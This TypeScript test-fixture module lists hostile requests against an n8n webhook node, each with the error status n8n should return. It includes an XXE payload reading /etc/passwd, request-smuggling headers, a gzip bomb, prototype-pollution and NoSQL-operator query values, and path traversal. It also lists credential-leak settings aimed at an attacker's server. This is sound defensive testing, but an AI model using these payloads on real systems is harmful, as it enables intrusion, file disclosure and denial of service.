import { deflateSync, gzipSync } from 'node:zlib';

import type { INodeParameters } from 'n8n-workflow';

import type { RawRequest } from './rawRequest';

/** Hostile requests to a webhook. n8n or the node answers each of them, and none starts an execution. */

export interface Honest {
	/** The sealed URL, as sent to the service. */
	readonly url: string;
	readonly event: object;
}

export interface Attack {
	readonly what: string;
	/** Built from an honest request, so that only the trick is wrong. */
	readonly request: (honest: Honest) => RawRequest;
	readonly statuses: readonly number[];
}

const JSON_TYPE = ['Content-Type', 'application/json'] as const;
const MEGABYTE = 1_000_000;

const pathOf = ({ url }: Honest): string => new URL(url).pathname;
const queryOf = ({ url }: Honest): string => new URL(url).search.slice(1);
const valueOf = ({ url }: Honest, name: string): string =>
	new URL(url).searchParams.get(name) ?? '';

/** The honest event, with these changes. */
export const post = (honest: Honest, changes: Partial<RawRequest> = {}): RawRequest => ({
	path: `${pathOf(honest)}?${queryOf(honest)}`,
	headers: [JSON_TYPE],
	body: JSON.stringify(honest.event),
	...changes,
});

const attack = (
	what: string,
	statuses: readonly number[],
	changes: (honest: Honest) => Partial<RawRequest>,
): Attack => ({ what, statuses, request: (honest) => post(honest, changes(honest)) });

/** The genuine event with another content type. */
const typed = (type: string, encode: (event: object) => string) =>
	attack(`as ${type}`, [400, 422], ({ event }) => ({
		headers: [['Content-Type', type]],
		body: encode(event),
	}));

const fieldsOf = (event: object) =>
	Object.entries(event).map(([name, value]): [string, string] => [name, String(value)]);
const form = (event: object) => new URLSearchParams(fieldsOf(event)).toString();
const xml = (event: object) => {
	const fields = fieldsOf(event).map(([name, value]) => `<${name}>${value}&e;</${name}>`);
	return `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>${fields.join('')}</x>`;
};
const multipart = (event: object) => {
	const head = '--b\r\nContent-Disposition: form-data; name=';
	const parts = fieldsOf(event).map(([name, value]) => `${head}"${name}"\r\n\r\n${value}\r\n`);
	return `${parts.join('')}--b--\r\n`;
};

const contentTypes: Attack[] = [
	typed('text/plain', JSON.stringify),
	typed('application/octet-stream', JSON.stringify),
	typed('application/json; charset=utf-16le', JSON.stringify),
	typed('application/x-www-form-urlencoded', form),
	typed('application/xml', xml),
	typed('multipart/form-data; boundary=b', multipart),
	typed('multipart/form-data', JSON.stringify),
	attack('without a content type', [400], () => ({ headers: [] })),
	attack('with two content types, the wrong one first', [400], () => ({
		headers: [['Content-Type', 'text/plain'], JSON_TYPE],
	})),
];

const body = (what: string, statuses: number[], content: (event: object) => RawRequest['body']) =>
	attack(what, statuses, ({ event }) => ({ body: content(event) }));
const withField = (name: string, value: unknown) => (event: object) =>
	JSON.stringify({ ...event, [name]: value });
const compressed = (content: (event: object) => Buffer | string) => (honest: Honest) => ({
	headers: [JSON_TYPE, ['Content-Encoding', 'gzip'] as const],
	body: content(honest.event),
});

const bodies: Attack[] = [
	body('that is cut in the middle', [422], (event) => JSON.stringify(event).slice(0, 60)),
	body('that is empty', [400], () => ''),
	body('that is null', [400, 422], () => 'null'),
	body('that is a number', [400, 422], () => '1e999'),
	body('that is a list', [400], (event) => JSON.stringify([event])),
	body('with zero bytes', [422], () => Buffer.alloc(1_000)),
	body('nested 100,000 deep', [400, 422], () => `${'['.repeat(100_000)}${']'.repeat(100_000)}`),
	body('nested 100,000 deep in a field', [400, 422], (event) =>
		withField(
			'callId',
			0,
		)(event).replace('"callId":0', `"callId":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`),
	),
	body('without a number', [400], withField('clientNumber', null)),
	body('under __proto__', [400], (event) => `{"__proto__":${JSON.stringify(event)}}`),
	body('with 10 MB in a field', [400], withField('callId', '1'.repeat(10 * MEGABYTE))),
	body(
		'of 20 MB, more than n8n takes',
		[0, 413, 500],
		withField('filler', 'x'.repeat(20 * MEGABYTE)),
	),
	attack('that says it is longer than it is, and hangs up', [0, 400, 500], () => ({
		hangUpAfter: 20,
	})),
	attack('with two lengths', [400], () => ({
		headers: [JSON_TYPE, ['Content-Length', '10'], ['Content-Length', '300']],
	})),
	attack('with a length and chunked, which two servers may read differently', [400], () => ({
		headers: [JSON_TYPE, ['Content-Length', '5'], ['Transfer-Encoding', 'chunked']],
		body: '0\r\n\r\n',
	})),
	attack('that claims to be compressed and is not', [400, 422, 500], compressed(JSON.stringify)),
	attack(
		'compressed twice',
		[422],
		compressed((event) => gzipSync(deflateSync(JSON.stringify(event)))),
	),
	attack(
		'of 100 MB, compressed to 100 kB',
		[413, 500],
		compressed(() => gzipSync(Buffer.alloc(100 * MEGABYTE, ' '))),
	),
];

const methods = ['GET', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'TRACE'].map((method) =>
	attack(
		`by ${method}, with POST in every header that may overrule it`,
		[401, 404, 405, 500],
		() => ({
			method,
			headers: [
				JSON_TYPE,
				['X-HTTP-Method-Override', 'POST'],
				['X-HTTP-Method', 'POST'],
				['X-Method-Override', 'POST'],
			],
		}),
	),
);

const query = (what: string, change: (honest: Honest) => string) =>
	attack(what, [400, 401], (honest) => ({ path: `${pathOf(honest)}?${change(honest)}` }));
/** The parameter replaced by what is made of its value. */
const replaced = (name: string, change: (value: string) => string) => (honest: Honest) =>
	queryOf(honest).replace(new RegExp(`${name}=[^&]*`), change(valueOf(honest, name)));
const nonce = (what: string, change: (value: string) => string) =>
	query(what, replaced('nonce', change));
const sig = (what: string, change: (value: string) => string) =>
	query(what, replaced('sig', change));

const queries: Attack[] = [
	nonce('without the nonce', () => ''),
	nonce('with another nonce', () => `nonce=${'A'.repeat(22)}`),
	nonce('with the nonce twice', (value) => `nonce=${value}&nonce=${value}`),
	nonce('with the nonce in a list', (value) => `nonce[]=${value}`),
	sig('without the signature', () => ''),
	sig('with the signature twice', (value) => `sig=${value}&sig=${value}`),
	sig('with a wrong signature behind the right one', (value) => `sig=${value}&sig=x`),
	sig('with the signature in a list', (value) => `sig[]=${value}`),
	sig('with the signature in an encoded list', (value) => `sig%5B0%5D=${value}`),
	sig('with an operator for a database', () => 'sig[$ne]=x'),
	sig('with the signature under __proto__', (value) => `__proto__[sig]=${value}`),
	sig('with the signature under constructor', (value) => `constructor[prototype][sig]=${value}`),
	sig('with the name in capitals', (value) => `SIG=${value}`),
	sig('with the name encoded twice', (value) => `%2573ig=${value}`),
	sig('with a zero byte behind the signature', (value) => `sig=${value}%00`),
	sig('with a broken encoding', (value) => `sig=${value}%E0%A4`),
	query('with a semicolon between the parameters', (honest) =>
		queryOf(honest).replace('&sig=', ';sig='),
	),
	sig('with the signature behind a fragment', (value) => `x=1#&sig=${value}`),
	query(
		'behind 2,000 other parameters',
		(honest) => `${'a=1&'.repeat(2_000)}${replaced('sig', () => 'sig=x')(honest)}`,
	),
];

const strangers: Attack[] = [
	attack('with an invalid host', [400, 401, 500], (honest) => ({
		path: `${pathOf(honest)}?${replaced('sig', () => 'sig=x')(honest)}`,
		headers: [JSON_TYPE, ['Host', 'a b[']],
	})),
	attack('with the seal in cookies and headers', [401], (honest) => ({
		path: `${pathOf(honest)}?${replaced('sig', () => '')(honest)}`,
		headers: [
			JSON_TYPE,
			['Cookie', `sig=${valueOf(honest, 'sig')}`],
			['sig', valueOf(honest, 'sig')],
			['X-Original-URL', `${pathOf(honest)}?${queryOf(honest)}`],
			['X-Rewrite-URL', `${pathOf(honest)}?${queryOf(honest)}`],
		],
	})),
];

const path = (
	what: string,
	change: (path: string) => string,
	statuses: readonly number[] = [400, 401, 404, 405],
) => attack(what, statuses, (honest) => ({ path: `${change(pathOf(honest))}?${queryOf(honest)}` }));
const at = (place: string) => (whole: string) =>
	whole.replace(/\/webhook(?:-waiting)?\//, `/${place}/`);

const paths: Attack[] = [
	path('without the end of the path', (whole) => whole.replace('/inbound-call', '')),
	path('with another end', (whole) => whole.replace('inbound-call', 'outbound-call')),
	path('in capitals', (whole) => whole.replace('inbound-call', 'INBOUND-CALL')),
	path('with more behind it', (whole) => `${whole}/x`),
	path('with a way out of the path', (whole) => `${whole}/..%2f..%2frest%2fsettings`),
	path('at the test address', at('webhook-test')),
	// n8n looks for an execution with that ID, and its database fails if the ID is not a number.
	path('at the address of forms', at('form-waiting'), [401, 404, 500]),
];

export const ATTACKS: readonly Attack[] = [
	...contentTypes,
	...bodies,
	...methods,
	...queries,
	...strangers,
	...paths,
];

/** The honest event, sent in unusual but valid ways. */
export const HONEST: ReadonlyArray<[what: string, request: (honest: Honest) => RawRequest]> = [
	['as it is', (honest) => post(honest)],
	[
		'with its parameters in another order, among others',
		(honest) => {
			const reversed = queryOf(honest).split('&').reverse().join('&');
			return post(honest, { path: `${pathOf(honest)}?x=1&${reversed}&utm=2` });
		},
	],
	[
		'compressed',
		(honest) => post(honest, compressed((event) => gzipSync(JSON.stringify(event)))(honest)),
	],
	[
		'with 10 MB in an optional field',
		(honest) =>
			post(honest, { body: withField('regionName', 'x'.repeat(10 * MEGABYTE))(honest.event) }),
	],
];

const PROXY_REFUSED = 'not sent through a proxy set in the node';
const UNCHECKED_REFUSED = 'not sent without n8n’s own certificate checks';
const ADDRESS_REFUSED = 'only sent to the address in the credential';

type KeyAttack = [
	what: string,
	refusal: string,
	parameters: (elsewhere: string) => INodeParameters,
	typeVersion?: number,
];

const keyAttacks: readonly KeyAttack[] = [
	['with their own URL', ADDRESS_REFUSED, (elsewhere) => ({ url: `${elsewhere}/v1.0/getBalance` })],
	['with their own proxy', PROXY_REFUSED, (proxy) => ({ options: { proxy } })],
	[
		'with their own proxy, which needs no certificate',
		PROXY_REFUSED,
		(proxy) => ({ options: { proxy, allowUnauthorizedCerts: true } }),
	],
	[
		'with their own proxy, in the node’s version 2',
		PROXY_REFUSED,
		(proxy) => ({ requestMethod: 'POST', options: { proxy } }),
		2,
	],
	[
		'without certificate checks',
		UNCHECKED_REFUSED,
		() => ({ options: { allowUnauthorizedCerts: true } }),
	],
	[
		'without certificate checks, in the node’s version 2',
		UNCHECKED_REFUSED,
		() => ({ requestMethod: 'POST', allowUnauthorizedCerts: true }),
		2,
	],
	[
		'with their own certificate authority',
		UNCHECKED_REFUSED,
		() => ({ provideSslCertificates: true }),
	],
	[
		'with the name of another host',
		'not sent with a “Host” header',
		() => {
			const jsonHeaders = '{"hOsT": "elsewhere.test"}';
			return { sendHeaders: true, specifyHeaders: 'json', jsonHeaders };
		},
	],
	['with a method that echoes it', 'not sent with TRACE', () => ({ method: '={{ "TRACE" }}' })],
	[
		'with their own next page',
		ADDRESS_REFUSED,
		(elsewhere) => {
			const pagination = {
				paginationMode: 'responseContainsNextURL',
				nextURL: `={{ $pageCount ? "${elsewhere}/v1.0/getBalance" : $request.uri }}`,
				paginationCompleteWhen: 'other',
				completeExpression: '={{ false }}',
			};
			return { options: { pagination: { pagination } } };
		},
	],
];

/**
 * Settings of n8n's HTTP Request node, chosen by a colleague who may use the credential but not see its key. They override
 * the parameters of an honest request; `elsewhere` is the attacker's server.
 */
export const KEY_ATTACKS = keyAttacks.map(([what, refusal, parameters, typeVersion]) => ({
	what,
	refusal,
	parameters,
	typeVersion,
}));
